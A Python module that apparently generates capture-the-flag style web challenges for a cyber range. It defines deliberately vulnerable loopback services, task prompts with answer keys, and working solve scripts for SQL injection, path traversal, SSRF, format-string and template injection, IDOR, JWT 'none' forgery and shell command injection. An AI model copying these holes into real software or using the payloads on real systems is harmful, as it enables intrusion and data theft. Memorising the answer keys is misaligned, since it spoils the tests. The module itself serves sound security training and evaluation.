"""Web exploitation against small loopback apps (ATT&CK TA0001 Initial Access, T1190)."""

from __future__ import annotations

from detente.cyberrange._gen import Ctx, Family, Spec

__all__ = ["FAMILIES"]

_T = ("TA0001", "T1190")
SOLVE_HEAD = (
    "import json, re, urllib.parse, urllib.request\n"
    "BASE = 'http://127.0.0.1:__PORT__'\n"
    "def get(path, data=None, headers=None):\n"
    "    req = urllib.request.Request(BASE + path, data=data, headers=headers or {})\n"
    "    try:\n"
    "        return urllib.request.urlopen(req, timeout=10).read().decode()\n"
    "    except urllib.error.HTTPError as exc:\n"
    "        return exc.read().decode()\n"
    "def flag(text):\n"
    "    print(re.search(r'detente\\{[0-9a-f]{24}\\}', text).group(0))\n"
)


def _solve(ctx: Ctx, body: str) -> str:
    return (SOLVE_HEAD + body).replace("__PORT__", str(ctx.port))


def _web(ctx: Ctx, sid: str, title: str, difficulty: str, cwe: str, prompt: str,
         subtasks: list[tuple[str, str]], service: str, solve: str) -> Spec:  # fmt: skip
    return Spec(
        id=sid, title=title, category="web", difficulty=difficulty, tactic=_T[0],
        technique=_T[1], cwe=cwe, prompt=prompt.replace("__PORT__", str(ctx.port)),
        subtasks=subtasks, service=service.replace("__PORT__", str(ctx.port)),
        solve=_solve(ctx, solve), port=ctx.port,
    )  # fmt: skip


def sqli_login(ctx: Ctx) -> Spec:
    admin = ctx.word(("admin", "root", "operator", "sysadmin"))
    service = f'''
import sqlite3, secrets as _s
DB = sqlite3.connect(":memory:", check_same_thread=False)
DB.execute("CREATE TABLE users (name TEXT, password TEXT, note TEXT)")
DB.execute("INSERT INTO users VALUES (?, ?, ?)", ("{admin}", _s.token_hex(16), "vault code: " + FLAG))
DB.execute("INSERT INTO users VALUES ('guest', 'guest', 'welcome, guest')")

def app(req):
    if req.path != "/login":
        return 200, "<form method=post action=/login>user <input name=user> password <input name=password></form>", {{}}
    q = "SELECT name, note FROM users WHERE name = '" + req.arg("user") + "' AND password = '" + req.arg("password") + "'"
    row = DB.execute(q).fetchone()
    if row is None:
        return 403, "invalid credentials", {{}}
    return 200, f"welcome {{row[0]}}: {{row[1]}}", {{}}

rangekit.serve_http(__PORT__, app)
'''
    solve = f"""
data = urllib.parse.urlencode({{"user": "{admin}' --", "password": "x"}}).encode()
flag(get("/login", data))
"""
    return _web(
        ctx, "web-sqli-login", "Login bypass", "easy", "CWE-89",
        "A login service runs at http://127.0.0.1:__PORT__/ . Log in as its administrator and "
        "report the flag stored in the administrator's note.",
        [("Which HTTP path processes the login form?", "/login"),
         ("What is the administrator's user name?", admin),
         ("Which class of vulnerability lets you log in without the password?", "SQL injection")],
        service, solve,
    )  # fmt: skip


def sqli_union(ctx: Ctx) -> Spec:
    table = "secret_" + ctx.hexword(4)
    service = f"""
import sqlite3
DB = sqlite3.connect(":memory:", check_same_thread=False)
DB.execute("CREATE TABLE products (id INTEGER, name TEXT, price TEXT)")
for i, name in enumerate(["lamp", "chair", "desk", "shelf"], 1):
    DB.execute("INSERT INTO products VALUES (?, ?, ?)", (i, name, str(10 * i)))
DB.execute("CREATE TABLE {table} (k TEXT, v TEXT)")
DB.execute("INSERT INTO {table} VALUES ('flag', ?)", (FLAG,))

def app(req):
    if req.path != "/product":
        return 200, "catalogue: /product?id=1", {{}}
    try:
        rows = DB.execute("SELECT name, price FROM products WHERE id = " + req.arg("id", "1")).fetchall()
    except sqlite3.Error as exc:
        return 500, "database error: " + str(exc), {{}}
    return 200, "\\n".join(f"{{n}}: {{p}}" for n, p in rows), {{}}

rangekit.serve_http(__PORT__, app)
"""
    solve = """
q = "0 UNION SELECT name, sql FROM sqlite_master"
tables = get("/product?id=" + urllib.parse.quote(q))
table = re.search(r"(secret_[0-9a-f]+)", tables).group(1)
flag(get("/product?id=" + urllib.parse.quote(f"0 UNION SELECT k, v FROM {table}")))
"""
    return _web(
        ctx, "web-sqli-union", "Catalogue dump", "medium", "CWE-89",
        "A product catalogue runs at http://127.0.0.1:__PORT__/ . Its database holds a flag "
        "outside the products table. Retrieve it.",
        [("Which query parameter is injectable?", "id"),
         ("Which database engine is behind the service?", "sqlite"),
         ("What is the name of the table that holds the flag?", table)],
        service, solve,
    )  # fmt: skip


def sqli_blind(ctx: Ctx) -> Spec:
    service = """
import sqlite3
DB = sqlite3.connect(":memory:", check_same_thread=False)
DB.execute("CREATE TABLE users (name TEXT, token TEXT)")
DB.execute("INSERT INTO users VALUES ('alice', 'x'), ('bob', 'y')")
DB.execute("CREATE TABLE vault (secret TEXT)")
DB.execute("INSERT INTO vault VALUES (?)", (FLAG,))

def app(req):
    if req.path != "/exists":
        return 200, "user lookup: /exists?name=alice", {}
    try:
        row = DB.execute("SELECT 1 FROM users WHERE name = '" + req.arg("name") + "'").fetchone()
    except sqlite3.Error:
        return 200, "no", {}
    return 200, "yes" if row else "no", {}

rangekit.serve_http(__PORT__, app)
"""
    solve = r"""
alphabet = "0123456789abcdef{}detn"
known = "detente{"
while not known.endswith("}"):
    for ch in alphabet:
        probe = f"alice' AND substr((SELECT secret FROM vault), {len(known) + 1}, 1) = '{ch}' --"
        if get("/exists?name=" + urllib.parse.quote(probe)) == "yes":
            known += ch
            break
    else:
        raise SystemExit("stuck at " + known)
print(known)
"""
    return _web(
        ctx, "web-sqli-blind", "Yes or no", "hard", "CWE-89",
        "A user-lookup service at http://127.0.0.1:__PORT__/ only ever answers yes or no. A "
        "table named vault holds a flag. Extract it.",
        [("Which query parameter is injectable?", "name"),
         ("What kind of SQL injection is needed when the page only says yes or no?", "boolean-based blind"),
         ("Which SQL function extracts one character of a string in SQLite?", "substr")],
        service, solve,
    )  # fmt: skip


_VFS = """
VFS = {
    "/srv/www/index.html": "<h1>files</h1> try /download?file=report.txt",
    "/srv/www/report.txt": "quarterly report: all good",
    "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\\n",
    "/srv/secret/__SECRET__": "flag: " + FLAG,
}
"""


def path_traversal(ctx: Ctx) -> Spec:
    secret = "flag-" + ctx.hexword(6) + ".txt"
    service = (
        _VFS.replace("__SECRET__", secret)
        + """
import posixpath
def app(req):
    if req.path == "/":
        return 200, VFS["/srv/www/index.html"] + "<!-- secrets live in /srv/secret/, listing at /srv/secret/index -->", {}
    if req.path != "/download":
        return 404, "not found", {}
    name = req.arg("file")
    path = posixpath.normpath(posixpath.join("/srv/www", name))
    if path == "/srv/secret/index":
        return 200, "\\n".join(k for k in VFS if k.startswith("/srv/secret/")), {}
    if path not in VFS:
        return 404, "no such file: " + path, {}
    return 200, VFS[path], {}

rangekit.serve_http(__PORT__, app)
"""
    )
    solve = """
listing = get("/download?file=" + urllib.parse.quote("../secret/index"))
name = listing.strip().splitlines()[0]
flag(get("/download?file=" + urllib.parse.quote("../.." + name)))
"""
    return _web(
        ctx, "web-path-traversal", "Download anything", "easy", "CWE-22",
        "A file download service runs at http://127.0.0.1:__PORT__/ . Read the flag file kept "
        "outside its web root.",
        [("Which query parameter names the file to download?", "file"),
         ("What is the name of the flag file?", secret),
         ("Which path sequence climbs out of the web root?", "../")],
        service, solve,
    )  # fmt: skip


def path_traversal_filter(ctx: Ctx) -> Spec:
    secret = "key-" + ctx.hexword(6) + ".txt"
    service = (
        _VFS.replace("__SECRET__", secret)
        + """
import posixpath
def app(req):
    if req.path == "/":
        return 200, "documents: /doc?name=report.txt (secrets are in /srv/secret/; listing /srv/secret/index)", {}
    if req.path != "/doc":
        return 404, "not found", {}
    name = req.arg("name").replace("../", "")  # "sanitised"
    path = posixpath.normpath(posixpath.join("/srv/www", name))
    if path == "/srv/secret/index":
        return 200, "\\n".join(k for k in VFS if k.startswith("/srv/secret/")), {}
    return (200, VFS[path], {}) if path in VFS else (404, "no such file: " + path, {})

rangekit.serve_http(__PORT__, app)
"""
    )
    solve = """
listing = get("/doc?name=" + urllib.parse.quote("....//secret/index"))
name = listing.strip().splitlines()[0]
flag(get("/doc?name=" + urllib.parse.quote("....//....//" + name.lstrip("/"))))
"""
    return _web(
        ctx, "web-path-traversal-filter", "Sanitised downloads", "medium", "CWE-22",
        "A document service at http://127.0.0.1:__PORT__/ removes '../' from file names. Read "
        "the key file kept outside its web root anyway.",
        [("What does the filter remove from the name parameter?", "../"),
         ("Which input survives the filter as '../'?", "....//"),
         ("What is the name of the key file?", secret)],
        service, solve,
    )  # fmt: skip


_FETCH = """
import urllib.parse
INTERNAL = {"http://__HOST__/flag": "internal flag: " + FLAG, "http://__HOST__/": "admin api: /flag"}
PUBLIC = {"http://www.example.test/": "hello from the public web"}

def fetch(url):
    parts = urllib.parse.urlsplit(url)
    key = f"{parts.scheme}://{parts.hostname}{parts.path or '/'}"
    return INTERNAL.get(key) or PUBLIC.get(key) or "could not fetch " + key
"""


def ssrf(ctx: Ctx) -> Spec:
    host = f"admin-{ctx.hexword(4)}.internal"
    service = (
        _FETCH.replace("__HOST__", host)
        + f"""
def app(req):
    if req.path == "/":
        return 200, "link preview: /preview?url=http://www.example.test/  (staff: the admin api is at http://{host}/)", {{}}
    if req.path == "/preview":
        return 200, "preview: " + fetch(req.arg("url")), {{}}
    return 404, "not found", {{}}

rangekit.serve_http(__PORT__, app)
"""
    )
    solve = f"""
flag(get("/preview?url=" + urllib.parse.quote("http://{host}/flag")))
"""
    return _web(
        ctx, "web-ssrf", "Link preview", "medium", "CWE-918",
        "A link-preview service runs at http://127.0.0.1:__PORT__/ . An internal admin API it "
        "can reach holds a flag; you cannot reach that API directly. Get the flag.",
        [("Which endpoint fetches URLs on your behalf?", "/preview"),
         ("What is the host name of the internal admin API?", host),
         ("Which class of vulnerability is this?", "server-side request forgery")],
        service, solve,
    )  # fmt: skip


def ssrf_filter(ctx: Ctx) -> Spec:
    host = f"vault-{ctx.hexword(4)}.internal"
    service = (
        _FETCH.replace("__HOST__", host)
        + f"""
def app(req):
    if req.path == "/":
        return 200, "image proxy: /proxy?url=http://www.example.test/ (only www.example.test is allowed; the vault at http://{host}/ is off limits)", {{}}
    if req.path == "/proxy":
        url = req.arg("url")
        if not url.startswith("http://www.example.test"):
            return 403, "only http://www.example.test is allowed", {{}}
        return 200, fetch(url), {{}}
    return 404, "not found", {{}}

rangekit.serve_http(__PORT__, app)
"""
    )
    solve = f"""
flag(get("/proxy?url=" + urllib.parse.quote("http://www.example.test@{host}/flag")))
"""
    return _web(
        ctx, "web-ssrf-filter", "Allow-listed proxy", "hard", "CWE-918",
        "An image proxy at http://127.0.0.1:__PORT__/ only fetches URLs that start with its "
        "allowed site. An internal vault it can reach holds a flag. Get it.",
        [("How does the proxy decide whether a URL is allowed?", "startswith"),
         ("Which part of a URL can hide the real host after the allowed prefix?", "userinfo"),
         ("What is the vault's host name?", host)],
        service, solve,
    )  # fmt: skip


def format_injection(ctx: Ctx) -> Spec:
    service = """
class Visitor:
    def __init__(self, name):
        self.name = name

def app(req):
    if req.path != "/greet":
        return 200, "greeting cards: /greet?template=Hello+{visitor.name}&name=Ann", {}
    template = req.arg("template", "Hello {visitor.name}")
    try:
        return 200, template.format(visitor=Visitor(req.arg("name", "friend"))), {}
    except (KeyError, AttributeError, IndexError, ValueError) as exc:
        return 400, "bad template: " + str(exc), {}

rangekit.serve_http(__PORT__, app)
"""
    solve = """
t = "{visitor.__init__.__globals__[FLAG]}"
flag(get("/greet?template=" + urllib.parse.quote(t)))
"""
    return _web(
        ctx, "web-format-injection", "Greeting cards", "medium", "CWE-134",
        "A greeting-card service at http://127.0.0.1:__PORT__/ (Python) lets you choose the "
        "card's template. The service keeps a flag in a global variable. Read it.",
        [("Which Python string method renders the template?", "format"),
         ("Which attribute of a function gives access to its module's global variables?", "__globals__"),
         ("What is the name of the global variable holding the flag?", "FLAG")],
        service, solve,
    )  # fmt: skip


def template_eval(ctx: Ctx) -> Spec:
    service = """
import re
class Config:
    def __init__(self):
        self.site = "range shop"
        self.theme = "dark"
        self._signing_secret = FLAG

CONFIG = Config()

def render(text):
    def sub(m):
        expr = m.group(1)
        if "secret" in expr or "import" in expr:
            return "[blocked]"
        return str(eval(expr, {"__builtins__": {}}, {"config": CONFIG}))
    return re.sub(r"\\{\\{(.*?)\\}\\}", sub, text)

def app(req):
    if req.path != "/preview":
        return 200, "page preview: /preview?page=Welcome+to+{{config.site}}", {}
    return 200, render(req.arg("page")), {}

rangekit.serve_http(__PORT__, app)
"""
    solve = """
flag(get("/preview?page=" + urllib.parse.quote("{{config.__dict__}}")))
"""
    return _web(
        ctx, "web-template-eval", "Page preview", "hard", "CWE-1336",
        "A page-preview service at http://127.0.0.1:__PORT__/ renders {{ }} expressions. Its "
        "configuration object holds a signing secret, and the word 'secret' is blocked. Get it.",
        [("What syntax marks an expression in a page?", "{{ }}"),
         ("What is the name of the object exposed to templates?", "config"),
         ("Which attribute lists all of an object's attributes without naming them?", "__dict__")],
        service, solve,
    )  # fmt: skip


def idor(ctx: Ctx) -> Spec:
    mine = 100 + ctx.rng.randrange(800)
    theirs = ctx.rng.randrange(1, 50)
    service = f"""
NOTES = {{ {mine}: ("guest", "my shopping list"), {theirs}: ("admin", "launch code " + FLAG) }}
def app(req):
    if req.path == "/":
        return 200, "your note: /api/notes/{mine}  (note ids are small integers)", {{}}
    if req.path.startswith("/api/notes/"):
        try:
            owner, text = NOTES[int(req.path.rsplit("/", 1)[1])]
        except (KeyError, ValueError):
            return 404, "no such note", {{}}
        return 200, f"owner={{owner}}\\n{{text}}", {{}}
    return 404, "not found", {{}}

rangekit.serve_http(__PORT__, app)
"""
    solve = """
for i in range(0, 1000):
    text = get(f"/api/notes/{i}")
    if "owner=admin" in text:
        flag(text)
        break
"""
    return _web(
        ctx, "web-idor", "Notes", "easy", "CWE-639",
        "A notes API at http://127.0.0.1:__PORT__/ shows you your own note. The admin's note "
        "holds a flag. Read it.",
        [("What is the id of your own note?", str(mine)),
         ("What is the id of the admin's note?", str(theirs)),
         ("Which class of vulnerability is this (acronym)?", "IDOR")],
        service, solve,
    )  # fmt: skip


def jwt_none(ctx: Ctx) -> Spec:
    user = ctx.word(("dana", "eli", "fay", "gus"))
    service = f'''
import base64, hashlib, hmac, json, secrets as _s
KEY = _s.token_bytes(32)
def b64(data): return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
def unb64(text): return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
def issue(claims):
    head = b64(json.dumps({{"alg": "HS256", "typ": "JWT"}}).encode())
    body = b64(json.dumps(claims).encode())
    sig = b64(hmac.new(KEY, f"{{head}}.{{body}}".encode(), hashlib.sha256).digest())
    return f"{{head}}.{{body}}.{{sig}}"
def check(token):
    head, body, sig = token.split(".")
    alg = json.loads(unb64(head)).get("alg")
    if alg == "HS256":
        want = b64(hmac.new(KEY, f"{{head}}.{{body}}".encode(), hashlib.sha256).digest())
        if not hmac.compare_digest(want, sig):
            raise ValueError("bad signature")
    elif alg.lower() != "none":
        raise ValueError("unsupported alg")
    return json.loads(unb64(body))
def app(req):
    if req.path == "/login":
        return 200, issue({{"user": "{user}", "role": "user"}}), {{}}
    if req.path == "/admin":
        try:
            claims = check(req.headers.get("Authorization", "").removeprefix("Bearer "))
        except Exception as exc:
            return 401, "unauthorised: " + str(exc), {{}}
        if claims.get("role") != "admin":
            return 403, "admins only", {{}}
        return 200, "admin console: " + FLAG, {{}}
    return 200, "GET /login for a token; GET /admin with Authorization: Bearer <token>", {{}}
rangekit.serve_http(__PORT__, app)
'''
    solve = """
import base64
def b64(d): return base64.urlsafe_b64encode(d).rstrip(b"=").decode()
token = get("/login")
head = b64(json.dumps({"alg": "none", "typ": "JWT"}).encode())
part = token.split(".")[1]
body = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
body["role"] = "admin"
forged = head + "." + b64(json.dumps(body).encode()) + "."
flag(get("/admin", headers={"Authorization": "Bearer " + forged}))
"""
    return _web(
        ctx, "web-jwt-none", "Token upgrade", "medium", "CWE-347",
        "A service at http://127.0.0.1:__PORT__/ hands out signed tokens at /login; /admin "
        "needs a token with the admin role. Get the admin console's flag.",
        [("What user name does /login put in your token?", user),
         ("Which claim decides access to /admin?", "role"),
         ("Which value of the token header's alg field skips signature checking?", "none")],
        service, solve,
    )  # fmt: skip


def cmd_injection(ctx: Ctx) -> Spec:
    service = """
import os, subprocess
def app(req):
    if req.path != "/ping":
        return 200, "network check: /ping?host=127.0.0.1", {}
    out = subprocess.run("echo pinging " + req.arg("host", "127.0.0.1") + "; echo done",
                         shell=True, capture_output=True, text=True, timeout=5,
                         env={"PATH": "/usr/bin:/bin", "DIAG_TOKEN": FLAG})
    return 200, out.stdout + out.stderr, {}
rangekit.serve_http(__PORT__, app)
"""
    solve = """
flag(get("/ping?host=" + urllib.parse.quote("x; env")))
"""
    return _web(
        ctx, "web-cmd-injection", "Network check", "medium", "CWE-78",
        "A network-check page at http://127.0.0.1:__PORT__/ runs a shell command with the host "
        "you give it. The command's environment holds a flag. Get it.",
        [("Which query parameter reaches the shell?", "host"),
         ("Which shell character ends one command and starts another?", ";"),
         ("Which environment variable holds the flag?", "DIAG_TOKEN")],
        service, solve,
    )  # fmt: skip


FAMILIES: list[tuple[str, Family]] = [
    ("web-sqli-login", sqli_login),
    ("web-sqli-union", sqli_union),
    ("web-sqli-blind", sqli_blind),
    ("web-path-traversal", path_traversal),
    ("web-path-traversal-filter", path_traversal_filter),
    ("web-ssrf", ssrf),
    ("web-ssrf-filter", ssrf_filter),
    ("web-format-injection", format_injection),
    ("web-template-eval", template_eval),
    ("web-idor", idor),
    ("web-jwt-none", jwt_none),
    ("web-cmd-injection", cmd_injection),
]
